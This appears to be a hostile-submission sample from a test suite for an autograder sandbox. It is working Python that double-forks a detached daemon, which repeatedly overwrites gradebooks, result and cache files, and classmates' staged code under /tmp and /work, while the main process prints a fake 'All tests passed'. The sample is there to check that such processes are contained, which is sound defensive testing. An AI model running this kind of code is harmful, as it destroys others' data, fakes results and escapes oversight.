"""Class 5 (escaping the run): leaves a daemon (fork, setsid, fork again) that keeps looking for the class's
gradebook, results and cache, and for classmates' staged files, to overwrite them after the batch; then prints
a fake success.  The daemon must die with the run, and find nothing to overwrite while it lives."""
import glob
import os

TARGETS = ("/tmp/*/grades.csv", "/tmp/*/*/grades.csv", "/tmp/*/*/results.json", "/tmp/*/.cache/*.json",
           "/tmp/coursekit-intake-*/*/*/*.py", "/work/*/grades.csv")


def daemon():
    for _ in range(2000):
        for pattern in TARGETS:
            for path in glob.glob(pattern):
                try:
                    with open(path, "w") as f:
                        f.write("hacked\n")
                except OSError:
                    pass
        os.sched_yield()


def main():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                daemon()
            finally:
                os._exit(0)
        os._exit(0)
    print("All tests passed: 10/10")
